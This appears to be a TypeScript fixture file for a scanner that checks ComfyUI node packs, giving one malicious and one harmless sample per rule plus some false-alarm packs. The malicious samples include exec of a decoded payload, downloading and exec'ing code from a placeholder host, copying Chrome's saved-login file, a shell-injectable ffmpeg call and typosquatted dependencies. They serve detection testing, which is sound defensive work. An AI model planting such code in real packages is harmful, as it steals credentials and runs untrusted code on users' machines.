// One malicious sample and one harmless look-alike per scan rule (see scan-rules.ts). The type
// makes a missing rule a compile error; scan.test.ts also checks it at run time. ("Malicious" is
// the sample the rule must report: for a standards rule, code that breaks the standard.)
// FALSE_ALARM_LOOK_ALIKES are whole packs shaped like real ones that drew false alarms; every
// rule is checked against each of them.
import type { Severity } from './findings'
import type { ScanRuleId } from './scan-rules'

export interface ScanFixture {
  /** Where the sample goes in the archive. */
  file: string
  malicious: string | Uint8Array
  harmless: string | Uint8Array
}

export const SCAN_FIXTURES: Record<ScanRuleId, ScanFixture> = {
  'exec-decoded-payload': {
    file: 'nodes.py',
    malicious: `import base64, zlib
PAYLOAD = "eJzLSM3JyVcozy/KSQEAGgQEXQ=="
exec(zlib.decompress(base64.b64decode(PAYLOAD)))
`,
    harmless: `import base64, io, re
from PIL import Image

PATTERN = re.compile(r"data:image/png;base64,(.*)")

def decode_image(data):
    raw = base64.b64decode(data)
    return Image.open(io.BytesIO(raw))
`,
  },
  'download-exec': {
    file: 'nodes.py',
    malicious: `import requests

code = requests.get("https://example.invalid/stage2.py", timeout=5).text
exec(code)
`,
    harmless: `import requests
import torch

def load(url, path):
    response = requests.get(url, timeout=30)
    with open(path, "wb") as f:
        f.write(response.content)
    model = torch.load(path, weights_only=True)
    model.eval()
    return model
`,
  },
  'credential-theft': {
    file: 'utils.py',
    malicious: `import os, shutil

def collect():
    base = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    shutil.copy(os.path.join(base, "Default", "Login Data"), "/tmp/ld")
`,
    harmless: `import json, os

def load_settings(folder, response):
    session = response.cookies.get("session")
    with open(os.path.join(folder, "settings.json")) as f:
        return json.load(f), session
`,
  },
  'import-time-pip-install': {
    file: '__init__.py',
    malicious: `import subprocess, sys

try:
    import onnxruntime
except ImportError:
    subprocess.check_call([sys.executable, "-m", "pip", "install", "onnxruntime"])
`,
    harmless: `try:
    import onnxruntime
except ImportError:
    print("onnxruntime is missing: run pip install onnxruntime")
`,
  },
  'import-time-subprocess': {
    file: '__init__.py',
    malicious: `import os

os.system("whoami > /tmp/.x")
`,
    harmless: `import subprocess

def git_version(path):
    return subprocess.run(["git", "describe"], cwd=path, capture_output=True, text=True).stdout
`,
  },
  'runtime-pip-install': {
    file: 'nodes.py',
    malicious: `import subprocess, sys

def ensure(package):
    subprocess.check_call([sys.executable, "-m", "pip", "install", package])
`,
    harmless: `import importlib.util

def ensure(package):
    if importlib.util.find_spec(package) is None:
        raise RuntimeError(f"{package} is missing: add it to requirements.txt")
`,
  },
  'eval-exec-call': {
    file: 'nodes.py',
    malicious: `class MathExpression:
    FUNCTION = "run"

    def run(self, expression, a, b):
        return (eval(expression, {"a": a, "b": b}),)
`,
    harmless: `import ast, re

NUMBER = re.compile(r"-?\\d+")

class MathExpression:
    FUNCTION = "run"

    def run(self, expression, model):
        model.eval()
        return (ast.literal_eval(expression),)
`,
  },
  'shell-command-from-string': {
    file: 'video.py',
    malicious: `import subprocess

class VideoConvert:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"path": ("STRING",)}}

    def convert(self, path):
        subprocess.run(f"ffmpeg -i {path} out.mp4", shell=True)
`,
    harmless: `import subprocess

def convert(path):
    subprocess.run(["ffmpeg", "-i", path, "out.mp4"], check=True)
`,
  },
  'js-child-process': {
    file: 'web/extension.js',
    malicious: `const { exec } = require('child_process')
exec('curl -s https://example.invalid/x -o /tmp/x')
`,
    harmless: `const match = /v(\\d+)/.exec(navigator.userAgent)
app.registerExtension({ name: 'demo', setup() { console.log(match) } })
`,
  },
  'pth-file': {
    file: 'models/hook.pth',
    malicious: `import os; os.environ.setdefault("PYTHONINSPECT", "1")
`,
    // The start of a pickled PyTorch checkpoint: binary, not a path file.
    harmless: new Uint8Array([0x80, 0x02, 0x8a, 0x0a, 0x6c, 0xfc, 0x9c, 0x46, 0xf9, 0x20, 0x6a]),
  },
  'known-malicious-dependency': {
    file: 'requirements.txt',
    malicious: 'colourama==0.1\n',
    harmless: 'colorama>=0.4\n',
  },
  'typosquat-dependency': {
    file: 'requirements.txt',
    malicious: 'numpy\nreqests>=2.0\n',
    harmless: 'requests>=2.31\nscapy\n',
  },
  'dependency-outside-pypi': {
    file: 'requirements.txt',
    malicious: '--extra-index-url https://pypi.example.invalid/simple\ntorch\n',
    harmless: "torch>=2.1 ; python_version >= '3.9'\n",
  },
}

/** A harmless pack shaped like a real one that drew a false alarm. */
export interface LookAlike {
  what: string
  files: Record<string, string>
  /** The modules ComfyUI imports, package-relative (as `Extraction.importedModules` has them). */
  imported: string[]
  /** The severity of each finding per rule; a rule not named here must report nothing. */
  expected: Partial<Record<ScanRuleId, Severity[]>>
}

const NODES = `class Blend:
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {"a": ("IMAGE",), "b": ("IMAGE",)}}

    RETURN_TYPES = ("IMAGE",)
    FUNCTION = "blend"
    CATEGORY = "image"

    def blend(self, a, b):
        return ((a + b) / 2,)
`

export const FALSE_ALARM_LOOK_ALIKES: readonly LookAlike[] = [
  {
    what: 'a release helper script at the archive root, never imported, that runs git at its top level',
    files: {
      '__init__.py': 'from .nodes import Blend\n\nNODE_CLASS_MAPPINGS = {"Blend": Blend}\n',
      'nodes.py': NODES,
      'release.py': `"""Tags and pushes a release: python release.py 1.2.3"""
import subprocess
import sys

version = sys.argv[1] if len(sys.argv) > 1 else "0.0.0"
tag = subprocess.Popen(["git", "tag", "-a", "v" + version, "-m", "Release " + version])
tag.wait()
subprocess.Popen(["git", "push", "origin", "v" + version]).wait()
`,
    },
    imported: ['__init__.py', 'nodes.py'],
    expected: {},
  },
  {
    what: 'a vendored library whose function runs nvcc through a shell on a path under the CUDA folder',
    files: {
      '__init__.py':
        'from .nodes import Blend\nfrom .vendor.gpukit import build\n\nNODE_CLASS_MAPPINGS = {"Blend": Blend}\n',
      'nodes.py': NODES,
      'vendor/__init__.py': '',
      'vendor/gpukit/__init__.py': '',
      'vendor/gpukit/build.py': `import os
import subprocess


def find_cuda_home():
    home = os.environ.get("CUDA_HOME") or "/usr/local/cuda"
    return home if os.path.isdir(home) else None


def nvcc_version():
    cuda_home = find_cuda_home()
    if cuda_home is None:
        return None
    path = os.path.join(cuda_home, "bin", "nvcc")
    return subprocess.check_output(f'"{path}" -V | tail -n1', shell=True).decode().strip()
`,
    },
    imported: [
      '__init__.py',
      'nodes.py',
      'vendor/__init__.py',
      'vendor/gpukit/__init__.py',
      'vendor/gpukit/build.py',
    ],
    expected: { 'shell-command-from-string': ['medium'] },
  },
]
